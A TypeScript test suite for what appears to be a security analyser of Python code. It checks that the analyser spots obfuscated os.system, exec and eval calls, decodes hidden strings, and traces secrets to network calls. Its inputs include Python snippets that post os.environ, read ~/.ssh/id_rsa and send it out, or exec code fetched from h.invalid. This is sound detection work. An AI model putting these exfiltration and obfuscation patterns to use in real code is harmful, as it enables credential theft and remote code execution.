import { describe, expect, test } from 'vitest'
import { analysePython } from '../../../src/code/python/index.ts'
import type { PythonView, Rule } from '../../../src/kit/index.ts'
import type { Analysis } from '../../../src/code/analyser.ts'

/** Runs the analyser with a rule that only looks. */
function look(text: string): { view: PythonView; analysis: Analysis } {
  const views: PythonView[] = []
  const rule = {
    kind: 'python',
    meta: { id: 'look' },
    python: (view: PythonView) => {
      views.push(view)
    },
  } as unknown as Rule
  const analysis = analysePython({ path: 'm.py', language: 'python', text }, [rule], {
    has: () => false,
    read: () => undefined,
  }) as Analysis
  return { view: views[0]!, analysis }
}

const apis = (text: string): string[] => look(text).view.calls.map(call => call.api)

describe('names', () => {
  test.each([
    ['import os\nos.system("x")', 'os.system'],
    ['import os as o\no.system("x")', 'os.system'],
    ['from os import system as s\ns("x")', 'os.system'],
    ['from os import *\nsystem("x")', 'os.system'],
    ['__import__("os").system("x")', 'os.system'],
    ['import importlib\nimportlib.import_module("o" + "s").system("x")', 'os.system'],
    ['import os\ngetattr(os, "sys" + "tem")("x")', 'os.system'],
    ['import os\nos.__dict__["system"]("x")', 'os.system'],
    ['import sys\nsys.modules["os"].system("x")', 'os.system'],
    ['import builtins\nbuiltins.exec("x")', 'exec'],
    ['__builtins__["eval"]("x")', 'eval'],
    ['globals()["__builtins__"].__dict__["eval"]("x")', 'eval'],
    ['import os\nf = os.system\nf("x")', 'os.system'],
    ['import os\nrun = {"a": os.system}\nrun["a"]("x")', 'os.system'],
  ])('%s calls %s', (text, expected) => expect(apis(text)).toContain(expected))

  test.each(['def system(x): pass\nsystem("x")', 'import re\nre.compile("x")', 'model.eval()', '# os.system("x")', '"os.system(1)"'])(
    '%s calls no such thing',
    text => expect(apis(text).filter(api => /^(?:os\.system|eval|exec|compile)$/.test(api))).toEqual([]),
  )
})

describe('strings', () => {
  const argument = (expression: string): string | undefined =>
    look(`import base64, codecs\nexec(${expression})`)
      .view.calls.find(call => call.api === 'exec')
      ?.arg(0).text
  test.each([
    ['"a" + "b"', 'ab'],
    ['"".join(["a", "b"])', 'ab'],
    ['"ab"[::-1]', 'ba'],
    ['f"a{1}b"', 'a1b'],
    ['"%s-%s" % ("a", "b")', 'a-b'],
    ['"{}{x}".format("a", x="b")', 'ab'],
    ['"axb".replace("x", "")', 'ab'],
    ['base64.b64decode("YWI=").decode()', 'ab'],
    ['bytes.fromhex("6162")', 'ab'],
    ['"".join(chr(c ^ 1) for c in [96, 99])', 'ab'],
    ['"".join(map(chr, [97, 98]))', 'ab'],
    ['bytes([97, 98])', 'ab'],
    ['codecs.decode("no", "rot13")', 'ab'],
    ['"\\x61\\u0062"', 'ab'],
    ['r"\\x61"', '\\x61'],
    ['"a" "b"', 'ab'],
  ])('%s is %s', (expression, expected) => expect(argument(expression)).toBe(expected))
})

describe('flow', () => {
  const taints = (text: string, api: string): string[] => {
    const call = look(text).view.calls.find(one => one.api === api)
    return [...(call?.args ?? []), ...Object.values(call?.keywords ?? {})].flatMap(value =>
      value.taints.map(taint => `${taint.kind} ${taint.detail}`),
    )
  }
  test.each([
    ['import os, requests\nrequests.post("u", json=dict(os.environ))', 'requests.post', 'env-all os.environ'],
    [
      'import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post("u", json=d)',
      'requests.post',
      'env-all os.environ',
    ],
    [
      'import requests\ndef f():\n    return open("/k").read()\ndef g(x):\n    requests.post("u", data=x)\ng(f())',
      'requests.post',
      'file /k',
    ],
    [
      'from pathlib import Path\nimport httpx\nhttpx.post("u", content=(Path.home() / ".ssh" / "id_rsa").read_text())',
      'httpx.post',
      'file ~/.ssh/id_rsa',
    ],
    [
      'import os, socket\nwith open(os.path.expanduser("~/k")) as f:\n    s = socket.socket()\n    s.send(f.read().encode())',
      'socket.socket().send',
      'file ~/k',
    ],
    ['import urllib.request as u\nexec(u.urlopen("https://h.invalid").read().decode())', 'exec', 'response https://h.invalid'],
    [
      'import requests\nclass A:\n    def __init__(self):\n        self.r = requests.get("https://h.invalid")\n    def go(self):\n        exec(self.r)\n',
      'exec',
      'response https://h.invalid',
    ],
  ])('%s', (text, api, expected) =>
    expected === '' ? expect(taints(text, api)).toEqual([]) : expect(taints(text, api)).toContain(expected),
  )

  test('one variable is not the environment', () =>
    expect(taints('import os, requests\nrequests.post("u", json=os.environ["A"])', 'requests.post')).toEqual(['env A']))

  test('commands and code in strings are handed on', () => {
    const { embeds } = look('import os, subprocess\nos.system("a | b")\nsubprocess.run(["bash", "-c", "c d"])\nexec("print(1)")').analysis
    expect(embeds?.map(({ language, text }) => [language, text])).toEqual([
      ['shell', 'a | b'],
      ['shell', "bash -c 'c d'"],
      ['python', 'print(1)'],
    ])
  })
})

test.each([
  ['brackets', '('.repeat(20_000)],
  ['nested lists', `x = ${'['.repeat(3000)}${']'.repeat(3000)}`],
  ['doubling', `a = "x"\n${'a = a + a\n'.repeat(2000)}`],
  [
    'functions in a circle',
    Array.from({ length: 300 }, (_, i) => `def f${i}(x):\n    return f${(i + 1) % 300}(f${(i + 2) % 300}(x))`).join('\n'),
  ],
  ['no Python', '\0\x01<html>}}}'],
])('%s come back', (_, text) => expect(look(text).view).toBeDefined(), 60_000)
